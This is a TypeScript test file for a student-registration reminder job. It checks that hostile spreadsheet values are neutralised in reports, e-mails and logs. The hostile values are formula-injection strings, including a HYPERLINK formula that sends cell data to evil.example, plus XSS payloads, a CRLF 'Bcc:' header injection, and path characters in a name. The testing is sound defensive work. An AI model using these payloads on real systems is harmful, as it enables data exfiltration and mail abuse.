/**
 * Hostile values travelling from a registration sheet (and a careless config) into
 * the report workbook, the e-mails and the logs: formulas stay text, HTML is escaped,
 * nothing reaches a mail header or a file name, and no full ID number leaves the job.
 */
import { readdirSync, readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { simpleParser } from 'mailparser';
import { describe, expect, it } from 'vitest';
import * as XLSX from 'xlsx';
import type { JobConfigInput } from '../shared/config.js';
import { loadConfig } from '../jobs/lib/config.js';
import { runJob } from '../jobs/reminders/run.js';
import { SAMPLE_AS_OF, sampleConfig, sampleWorkbooks } from '../jobs/demo/sample.js';
import { CLEAN, HEADER, tempDir } from './helpers.js';

/** What OWASP lists as CSV/formula-injection starters, as a secretary's sheet might carry them. */
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+86-13912345678', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
const HOSTILE_ID = '110108200403151232';

async function runWithHostileSheet() {
  const dir = tempDir();
  mkdirSync(join(dir, 'input'));
  sampleWorkbooks(join(dir, 'input'));
  const rows = [
    HEADER,
    ...FORMULAS.map((f, i) => HEADER.map((h) => ({ 学号: `20220899${i}`, 身份证号: '', 去向单位: f, 所在党支部: f })[h] ?? CLEAN[h] ?? '')),
    HEADER.map((h) => ({ 姓名: '<script>alert("x")</script>', 学号: '2022089910', 所在党支部: '<img src=x onerror=alert(1)>', 身份证号: HOSTILE_ID })[h] ?? CLEAN[h] ?? ''),
    HEADER.map((h) => ({ 姓名: '张三\r\nBcc: evil@example.com', 学号: '2022089911', 身份证号: '' })[h] ?? CLEAN[h] ?? ''),
  ];
  const ws = XLSX.utils.aoa_to_sheet(rows);
  const wb = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(wb, ws, '登记表');
  writeFileSync(join(dir, 'input', '计算机学院-补充登记表.xlsx'), XLSX.write(wb, { type: 'buffer', bookType: 'xlsx' }));

  const sample = sampleConfig();
  const [first, ...others] = sample.colleges!;
  const config: JobConfigInput = {
    ...sample,
    registrations: [...sample.registrations!, 'input/计算机学院-补充登记表.xlsx'],
    // A display name pasted with a line break and a path: it must not become a header or a folder.
    colleges: [{ ...first!, name: '计算机/学院\r\nBcc: evil@example.com' }, ...others],
  };
  const file = join(dir, 'config.json');
  writeFileSync(file, JSON.stringify(config, null, 2));
  const lines: string[] = [];
  await runJob(loadConfig(file), { asOf: SAMPLE_AS_OF, log: (s) => lines.push(s) });
  return { dir, log: lines.join('\n') };
}

describe('hostile sheet values through reconcile and mail', async () => {
  const { dir, log } = await runWithHostileSheet();
  const outbox = join(dir, 'outbox');
  const emls = readdirSync(outbox).map((f) => ({ name: f, raw: readFileSync(join(outbox, f)) }));
  const parsed = await Promise.all(emls.map((e) => simpleParser(e.raw)));
  const reportFile = readdirSync(join(dir, 'reports')).map((f) => join(dir, 'reports', f))[0]!;

  it('report and attachments: every formula-like value is a text cell, never a formula', () => {
    const books = [readFileSync(reportFile), ...parsed.flatMap((p) => p.attachments.map((a) => a.content))];
    let seen = 0;
    for (const buf of books) {
      const wb = XLSX.read(buf, { cellFormula: true });
      for (const n of wb.SheetNames) {
        for (const [addr, cell] of Object.entries(wb.Sheets[n]!)) {
          if (addr.startsWith('!')) continue;
          const c = cell as XLSX.CellObject;
          expect(c.f, `${n}!${addr}`).toBeUndefined();
          if (typeof c.v === 'string' && FORMULAS.some((f) => c.v === f.trim() || c.v === f)) {
            expect(c.t).toBe('s');
            seen++;
          }
        }
      }
    }
    expect(seen).toBeGreaterThan(0);
  });

  it('HTML is escaped in the mail body', () => {
    const college = parsed.find((p) => p.text?.includes('2022089910'))!;
    expect(college.html).not.toContain('<script>');
    expect(college.html).not.toContain('<img src=x');
    expect(college.html).toContain('&lt;script&gt;');
  });

  it('a line break in a name or college never reaches a header; file names carry no path', () => {
    for (const [i, p] of parsed.entries()) {
      expect(p.bcc).toBeUndefined();
      expect(p.headers.has('bcc')).toBe(false);
      expect(p.subject).not.toMatch(/[\r\n]/);
      for (const a of p.attachments) expect(a.filename).not.toMatch(/[\\/\r\n]/);
      const headerBlock = emls[i]!.raw.toString('latin1').split(/\r?\n\r?\n/)[0]!;
      expect(headerBlock).not.toMatch(/^Bcc:/im);
    }
    for (const e of emls) expect(e.name).not.toMatch(/[\\/\r\n]/);
    expect(readdirSync(dir).sort()).toEqual(['config.json', 'input', 'outbox', 'reports', 'state']);
  });

  it('no full ID number in bodies, attachments, the report or the log', () => {
    const everything = [
      ...parsed.flatMap((p) => [p.text ?? '', String(p.html), ...p.attachments.map((a) => JSON.stringify(XLSX.utils.sheet_to_json(XLSX.read(a.content).Sheets[XLSX.read(a.content).SheetNames[0]!]!)))]),
      ...XLSX.read(readFileSync(reportFile)).SheetNames.map((n) => JSON.stringify(XLSX.utils.sheet_to_json(XLSX.read(readFileSync(reportFile)).Sheets[n]!))),
      log,
    ].join('\n');
    expect(everything).toContain('2022089910');
    expect(everything).not.toContain(HOSTILE_ID);
    expect(everything).not.toMatch(/\d{17}[\dXx]/);
  });
});

describe('the task pane', () => {
  it('allows scripts only from itself and Office’s CDN (Content-Security-Policy)', () => {
    const html = readFileSync(join(import.meta.dirname, '..', 'addin', 'taskpane.html'), 'utf8');
    const csp = /http-equiv="Content-Security-Policy"\s+content="([^"]+)"/.exec(html)?.[1] ?? '';
    const directives = Object.fromEntries(csp.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([k, ...v]) => [k, v]));
    expect(directives['default-src']).toEqual(["'self'"]);
    expect(directives['script-src']).toEqual(["'self'", 'https://appsforoffice.microsoft.com']);
    expect(csp).not.toMatch(/unsafe-eval|unsafe-inline'?\s*;?\s*script|\*/);
  });
});
